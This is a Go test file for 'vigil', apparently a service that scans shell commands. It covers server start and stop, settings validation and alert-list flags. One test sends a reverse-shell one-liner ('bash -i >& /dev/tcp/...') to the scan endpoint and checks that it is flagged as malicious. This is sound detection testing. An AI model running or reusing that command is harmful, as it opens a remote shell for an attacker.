package main

import (
	"bytes"
	"context"
	"encoding/json"
	"io"
	"net"
	"net/http"
	"strings"
	"testing"
	"time"
)

func TestServeStartsAndStops(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("VIGIL_DATABASE_URL", "")
	t.Setenv("VIGIL_ADDR", "127.0.0.1:1") // the flag wins over the environment
	out, err := run(t, "", "keys", "create", "--name", "t", "--format", "json", "--data-dir", dir)
	if err != nil {
		t.Fatal(err)
	}
	var k struct{ Key string }
	json.Unmarshal([]byte(out), &k)
	addr := freeAddr(t)
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	var logs bytes.Buffer
	go func() {
		root := newRootCmd()
		root.SetArgs([]string{"serve", "--addr", addr, "--data-dir", dir})
		root.SetOut(io.Discard)
		root.SetErr(&logs)
		done <- root.ExecuteContext(ctx)
	}()
	base := "http://" + addr
	waitReady(t, base+"/readyz", done)
	req, _ := http.NewRequest("POST", base+"/v1/scan", strings.NewReader(`{"command":"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"}`))
	req.Header.Set("Authorization", "Bearer "+k.Key)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != 200 || !strings.Contains(string(b), `"Malicious"`) {
		t.Errorf("scan through vigil serve: %d %s", res.StatusCode, b)
	}
	cancel()
	select {
	case err := <-done:
		if err != nil {
			t.Errorf("serve exited with %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("serve did not stop")
	}
	alerts, err := run(t, "", "alerts", "list", "--data-dir", dir, "--label", "Malicious", "--since", "1h")
	if err != nil || !strings.Contains(alerts, "/dev/tcp/203.0.113.9") {
		t.Errorf("alerts list after serve: %v\n%s", err, alerts)
	}
}

func freeAddr(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	return ln.Addr().String()
}

func waitReady(t *testing.T, url string, done <-chan error) {
	t.Helper()
	for deadline := time.Now().Add(15 * time.Second); time.Now().Before(deadline); time.Sleep(50 * time.Millisecond) {
		select {
		case err := <-done:
			t.Fatalf("serve exited early: %v", err)
		default:
		}
		if res, err := http.Get(url); err == nil {
			res.Body.Close()
			if res.StatusCode == 200 {
				return
			}
		}
	}
	t.Fatal("serve never became ready")
}

func TestServeRejectsBadSettings(t *testing.T) {
	t.Setenv("VIGIL_DATABASE_URL", "mysql://nope")
	if _, err := run(t, "", "serve", "--data-dir", t.TempDir()); err == nil || !strings.Contains(err.Error(), "database_url") {
		t.Errorf("unsupported VIGIL_DATABASE_URL: %v", err)
	}
	t.Setenv("VIGIL_DATABASE_URL", "")
	if _, err := run(t, "", "serve", "--addr", "nowhere", "--data-dir", t.TempDir()); err == nil || !strings.Contains(err.Error(), "server.addr") {
		t.Errorf("bad --addr: %v", err)
	}
	busy, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer busy.Close()
	if _, err := run(t, "", "serve", "--addr", busy.Addr().String(), "--data-dir", t.TempDir()); err == nil || !strings.Contains(err.Error(), "listen") {
		t.Errorf("address in use: %v", err)
	}
}

func TestAlertsListFlags(t *testing.T) {
	t.Setenv("VIGIL_DATABASE_URL", "")
	dir := t.TempDir()
	out, err := run(t, "", "alerts", "list", "--data-dir", dir, "--format", "json")
	if err != nil || !strings.Contains(out, `"alerts": []`) {
		t.Errorf("empty store: %v %s", err, out)
	}
	for _, args := range [][]string{{"--since", "yesterday"}, {"--status", "closed"}, {"--format", "csv"}} {
		if _, err := run(t, "", append([]string{"alerts", "list", "--data-dir", dir}, args...)...); err == nil {
			t.Errorf("alerts list %v accepted", args)
		}
	}
}
